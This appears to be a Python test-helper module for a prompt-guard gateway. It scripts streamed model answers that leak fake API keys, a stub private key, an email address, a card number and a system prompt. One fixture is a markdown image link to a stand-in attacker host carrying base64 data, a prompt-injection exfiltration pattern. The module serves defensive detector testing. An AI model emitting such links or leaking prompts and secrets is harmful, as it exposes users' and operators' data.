"""Answers of a model as scripts: what was said on which strand, how it is cut, and what a whole answer would give.

A script is cut, written as server-sent events, fed to a relay, and what comes out is read back as a client would. The
other way to the same end is the whole answer, decided by `Judge.answer` and rewritten as the exchange does it.
"""

import itertools
import json
from collections.abc import Callable, Sequence
from copy import deepcopy
from dataclasses import dataclass, field

from msgspec import structs

from promptguard_gateway.core.detector import Knowledge
from promptguard_gateway.core.policy import Mode
from promptguard_gateway.core.presets import PRESETS
from promptguard_gateway.core.segments import Column
from promptguard_gateway.detectors.catalogue import DETECTORS
from promptguard_gateway.domain.settings import BodyLimits, UpstreamLimits
from promptguard_gateway.proxy.dialects import redact_answer
from promptguard_gateway.proxy.inspect import Judge, Judgement
from promptguard_gateway.proxy.relay import Relay
from promptguard_gateway.proxy.restoring import Restoring
from promptguard_gateway.wire import openai_answers

AWS = "AKIA" + "IOSFODNN7EXAMPL2"
GITHUB = "gh" + "p_" + "a1B2c3D4e5F6" * 3
OPENAI = "sk-" + "proj-" + "A1b2C3d4E5f6G7h8" * 3
MAIL = "ana.lopez" + "@" + "example.com"
CARD = "4111 1111 " + "1111 1111"
PROMPT = "You are the help desk of a parcel service, and the discount code for staff is orange elephant nine."
LINK = "![map](https://evil.example.net/p.png?d=" + "c2VjcmV0IHdvcmRz" * 3 + ")"
KEY_BLOCK = "-----BEGIN RSA PRIV" + "ATE KEY-----\n" + "MIIEow" * 12 + "\n-----END RSA PRIV" + "ATE KEY-----"

KNOWLEDGE = Knowledge(protected=(PROMPT,), spoken=("Where is my parcel?",))

Key = tuple[int, str, int]  # choice, member, tool call or -1
Cutter = Callable[[str, int], list[str]]


@dataclass(frozen=True)
class Said:
    """One strand: its whole text."""

    text: str
    member: str = "content"
    choice: int = 0
    tool: int = -1

    @property
    def key(self) -> Key:
        return self.choice, self.member, self.tool


@dataclass(frozen=True)
class Script:
    """An answer. `end`: the finish reason comes in a chunk of its own, with the last text, or not at all."""

    name: str
    strands: tuple[Said, ...]
    end: str = "own"
    logprobs: bool = False
    usage: bool = False
    woven: bool = False  # strands take turns, chunk by chunk

    @property
    def choices(self) -> list[int]:
        return sorted({said.choice for said in self.strands})

    @property
    def longest(self) -> int:
        return max(len(said.text) for said in self.strands)


def content(text: str, name: str = "", **more: object) -> Script:
    """An answer of content alone."""
    return Script(name or text[:30], (Said(text),), **more)


def call(arguments: str, tool: int = 0, choice: int = 0) -> Said:
    """The arguments of one tool call."""
    return Said(arguments, "arguments", choice, tool)


# How a text is cut.


def uncut(text: str, _: int) -> list[str]:
    return [text]


def characters(text: str, _: int) -> list[str]:
    return list(text)


def at(*places: int) -> Cutter:
    """Cut every strand at these places; each strand a little later than the one before."""

    def cutter(text: str, order: int) -> list[str]:
        edges = [0, *sorted(min(place + order, len(text)) for place in places), len(text)]
        return [text[start:end] for start, end in itertools.pairwise(edges)]

    return cutter


# From a script to the bytes of a stream.


def chunks(script: Script, cutter: Cutter) -> list[dict[str, object]]:
    """The chunks of a stream of this script."""
    runs = [
        [_delta_chunk(script, said, piece, first=place == 0) for place, piece in enumerate(cutter(said.text, order))]
        for order, said in enumerate(script.strands)
    ]
    if script.woven:
        turns = itertools.zip_longest(*runs)
        body = [chunk for turn in turns for chunk in turn if chunk is not None]
    else:
        body = [chunk for run in runs for chunk in run]
    opening = [_chunk({"index": choice, "delta": {"role": "assistant", "content": ""}}) for choice in script.choices]
    return [*opening, *_closed(script, body), *([_usage()] if script.usage else [])]


def _closed(script: Script, body: list[dict[str, object]]) -> list[dict[str, object]]:
    if script.end == "none":
        return body
    if script.end == "own":
        return [*body, *(_chunk({"index": choice, "delta": {}, "finish_reason": "stop"}) for choice in script.choices)]
    for choice in script.choices:
        last = [chunk for chunk in body if chunk["choices"][0]["index"] == choice][-1]
        last["choices"][0]["finish_reason"] = "stop"
    return body


def _chunk(choice: dict[str, object]) -> dict[str, object]:
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": [{"logprobs": None, "finish_reason": None, **choice}],
    }


def _usage() -> dict[str, object]:
    tokens = {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}
    return {**_chunk({}), "choices": [], "usage": tokens}


def _delta_chunk(script: Script, said: Said, piece: str, *, first: bool) -> dict[str, object]:
    if said.tool >= 0:
        function: dict[str, object] = {"arguments": piece}
        tool: dict[str, object] = {"index": said.tool, "function": function}
        if first:
            function["name"] = f"find_{said.tool}"
            tool |= {"id": f"call_{said.tool}", "type": "function"}
        return _chunk({"index": said.choice, "delta": {"tool_calls": [tool]}})
    if said.member == "text":
        return {**_chunk({"index": said.choice, "text": piece}), "object": "text_completion"}
    choice: dict[str, object] = {"index": said.choice, "delta": {said.member: piece}}
    if script.logprobs and said.member == "content":
        choice["logprobs"] = {"content": entries(piece)}
    return _chunk(choice)


def entries(text: str) -> list[dict[str, object]]:
    """Log-probabilities of a text, one token a character."""
    return [{"token": c, "logprob": -0.5, "bytes": [*c.encode()], "top_logprobs": []} for c in text]


def stream(script: Script, cutter: Cutter = uncut, *, ascii_only: bool = True) -> bytes:
    """The stream's bytes, plainly framed."""
    events = [json.dumps(chunk, ensure_ascii=ascii_only).encode() for chunk in chunks(script, cutter)]
    return b"".join(b"data: " + data + b"\n\n" for data in [*events, b"[DONE]"])


# What comes out.


@dataclass
class Heard:
    """What a client has at the end."""

    texts: dict[Key, str] = field(default_factory=dict)
    tokens: dict[int, str] = field(default_factory=dict)
    finished: set[int] = field(default_factory=set)
    usage: bool = False


def hear(frames: bytes) -> Heard:
    """Read a relay's frames as a client does."""
    heard = Heard()
    for frame in frames.split(b"\n\n")[:-1]:
        assert frame.startswith(b"data: ")
        chunk = json.loads(frame[6:])
        heard.usage = heard.usage or chunk.get("usage") is not None
        for choice in chunk["choices"]:
            _hear_choice(choice, heard)
    return heard


def _hear_choice(choice: dict[str, object], heard: Heard) -> None:
    index = choice["index"]
    assert isinstance(index, int)
    if choice.get("finish_reason"):
        heard.finished.add(index)
    for entry in (choice.get("logprobs") or {}).get("content") or []:
        heard.tokens[index] = heard.tokens.get(index, "") + entry["token"]
    delta = choice.get("delta") or {}
    assert isinstance(delta, dict)
    said = {(index, member, -1): text for member, text in {**delta, "text": choice.get("text")}.items()}
    for tool in delta.get("tool_calls", []):
        said[index, "arguments", tool["index"]] = tool.get("function", {}).get("arguments")
    for key, text in said.items():
        if isinstance(text, str) and key[1] != "role":
            assert index not in heard.finished or text == "" or choice.get("finish_reason")
            heard.texts[key] = heard.texts.get(key, "") + text


def relayed(
    judge: Judge,
    data: bytes | Sequence[bytes],
    limits: UpstreamLimits | None = None,
    restoring: Restoring | None = None,
) -> tuple[Relay, bytes]:
    """Feed these bytes, in these pieces, and gather what leaves."""
    relay = Relay(judge, KNOWLEDGE, limits or UpstreamLimits(), restoring or Restoring())
    frames = b""
    for piece in [data] if isinstance(data, bytes) else data:
        frames += relay.feed(piece)
        if relay.ended:
            break
    relay.end_of_input()
    return relay, frames


# What a whole answer gives.


@dataclass
class Whole:
    """The decision on a whole answer, and the texts it leaves; of blocked strands, what precedes the block."""

    judgement: Judgement
    texts: dict[Key, str]
    tokens: dict[int, str]

    @property
    def blocked(self) -> bool:
        return self.judgement.decision.outcome == "block"


def whole(judge: Judge, script: Script, restoring: Restoring | None = None) -> Whole:
    """Decide the script as one answer."""
    tree = _answer(script)
    inventory = openai_answers.inventory(tree, BodyLimits())
    judgement = judge.answer(inventory.segments, KNOWLEDGE)
    if judgement.decision.outcome == "block":
        parts = script.strands
        texts = {said.key: _before_block(judge, said) for said in parts} if len(parts) > 1 or parts[0].tool < 0 else {}
        return Whole(judgement, texts, {})
    redacted, restoring = deepcopy(tree), restoring or Restoring()
    final = restoring.whole(tree, judgement)
    redact_answer(redacted, final, may_redact=judge.may_redact_answers or restoring.active)
    return Whole(judgement, {said.key: _text_at(redacted, said) for said in script.strands}, _tokens(redacted))


def _before_block(judge: Judge, said: Said) -> str:
    """What a stream of one strand may say at most."""
    if said.tool >= 0:
        alone = whole(judge, Script("alone", (said,)))
        return "" if alone.blocked else alone.texts[said.key]
    inspector = judge.inspector(Column.ANSWER, KNOWLEDGE, 0)
    return inspector.feed(said.text).text + inspector.finish().text


def _answer(script: Script) -> dict[str, object]:
    answered: list[object] = []
    for index in script.choices:
        strands = [said for said in script.strands if said.choice == index]
        choice: dict[str, object] = {"index": index, "finish_reason": "stop", "logprobs": None}
        if script.logprobs:
            text = "".join(said.text for said in strands if said.member == "content")
            choice["logprobs"] = {"content": entries(text)}
        if strands[0].member == "text":
            choice["text"] = strands[0].text
        else:
            choice["message"] = {"role": "assistant", **_message(strands)}
        answered.append(choice)
    return {"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "m", "choices": answered}


def _message(strands: list[Said]) -> dict[str, object]:
    message: dict[str, object] = {said.member: said.text for said in strands if said.tool < 0}
    calls = [
        {
            "id": f"call_{said.tool}",
            "type": "function",
            "function": {"name": f"find_{said.tool}", "arguments": said.text},
        }
        for said in sorted(strands, key=lambda one: one.tool)
        if said.tool >= 0
    ]
    return {**message, "tool_calls": calls} if calls else message


def _text_at(tree: dict[str, object], said: Said) -> str:
    choices = tree["choices"]
    choice = next(one for one in choices if one["index"] == said.choice)
    if said.member == "text":
        return choice["text"]
    if said.tool < 0:
        return choice["message"][said.member]
    return next(
        one["function"]["arguments"] for one in choice["message"]["tool_calls"] if one["id"] == f"call_{said.tool}"
    )


def _tokens(tree: dict[str, object]) -> dict[int, str]:
    found: dict[int, str] = {}
    for choice in tree["choices"]:
        tokens = [entry["token"] for entry in (choice["logprobs"] or {}).get("content") or []]
        if tokens:
            found[choice["index"]] = "".join(tokens)
    return found


JUDGES = {
    "moderate": Judge(DETECTORS, PRESETS["moderate"]),
    "strict": Judge(DETECTORS, PRESETS["strict"]),
    "monitor": Judge(DETECTORS, structs.replace(PRESETS["strict"], mode=Mode.MONITOR)),
}

ARGUMENTS = json.dumps({"to": MAIL, "text": 'a "quoted"\nline \\ é 😀', "n": [1, 2]})
KEYED = json.dumps({"q": "weather", "key": AWS})

SCRIPTS: tuple[Script, ...] = (
    content("The van is late, and 4 + 4 is 8."),
    content("", "nothing at all"),
    content("x", "one letter"),
    content("Grüße aus Köln: 😀 👩‍👩‍👧 ñandú e\u0301 \u200b ok", "beyond ascii"),
    content(f"The key is {AWS} and no more."),
    content(f"{AWS}", "only a key"),
    content(f"{AWS}", "only a key, end with the text", end="with"),
    content(f"{AWS}", "only a key, no finish reason", end="none"),
    content(f"first {AWS} then {GITHUB}, then {OPENAI}.", "three keys"),
    content(f"a{AWS}b {AWS[:-1]} AKIA near misses", "near misses"),
    content(f"Write to {MAIL} or call.", end="with"),
    content(f"Card {CARD}, mail {MAIL}, key {AWS}", "mixed values", woven=True),
    content(f"See {LINK} for the way.", "a link"),
    content(f"{LINK}{LINK}", "two links", end="with"),
    content(f"See [here](https://example.org/page) and {LINK[:-1]}", "an unfinished link"),
    content(f"Sure, here it is: {PROMPT}", "a leak"),
    content(f"Sure: {PROMPT} And the key is {AWS}.", "a leak, then a key"),
    content(f"The key is {AWS}. {PROMPT}", "a key, then a leak", end="with"),
    content(PROMPT[: len(PROMPT) // 3], "a third of the prompt"),
    content(f"Here:\n{KEY_BLOCK}\nDone.", "a private key"),
    content(f"Here:\n{KEY_BLOCK[:60]}", "a private key without end", end="none"),
    content(f"The key is {AWS} ok", "logprobs with a key", logprobs=True, end="with"),
    content("All is well here.", "logprobs of calm text", logprobs=True, usage=True),
    content(f"{MAIL} and {MAIL}", "logprobs and mail", logprobs=True),
    content("data: [DONE]\n\nand more [DONE] text", "the end mark as text"),
    content('{"error": {"message": "not one"}}', "an error as text"),
    content("tail AKIA", "a beginning at the end", end="none", usage=True),
    Script("reasoning", (Said(f"Let me see, {AWS}.", "reasoning_content"), Said("It is 4.")), usage=True),
    Script("reasoning leaks", (Said(f"My orders: {PROMPT}", "reasoning_content"), Said("It is 4."))),
    Script("vllm's reasoning", (Said("Think of parcels.", "reasoning"), Said(f"Key {AWS}")), woven=True),
    Script("refusal", (Said(f"I cannot, {MAIL} {AWS}.", "refusal"),)),
    Script("two choices", (Said(f"one {AWS} end"), Said(f"two {GITHUB} end", choice=1)), woven=True, usage=True),
    Script("two calm choices", (Said("one two three"), Said("four five six", choice=1)), woven=True, end="with"),
    Script("one of two leaks", (Said("All is calm on this side."), Said(PROMPT, choice=1)), woven=True),
    Script("a call", (call(ARGUMENTS),)),
    Script("a call with the end", (call(ARGUMENTS),), end="with"),
    Script("a call without end", (call(ARGUMENTS),), end="none"),
    Script("a key in a call", (call(KEYED),)),
    Script("parallel calls", (call(ARGUMENTS), call('{"a": 1}', 1), call("{}", 2)), woven=True),
    Script("one of the calls", (Said("I look."), call(ARGUMENTS), call(KEYED, 1)), woven=True, end="with"),
    Script("a call that is no JSON", (call(f"to={MAIL}; n=1"),)),
    Script("an escaped key", (call('{"k": "' + AWS.replace("A", "\\u0041") + '"}'),)),
    Script("calls of two choices", (call(ARGUMENTS), call(ARGUMENTS, choice=1)), woven=True),
    Script("a completion", (Said(f"The key is {AWS}, mail {MAIL}", "text"),)),
    Script("two completions", (Said("a b c", "text"), Said(f"{AWS} x", "text", 1)), woven=True, end="with"),
)
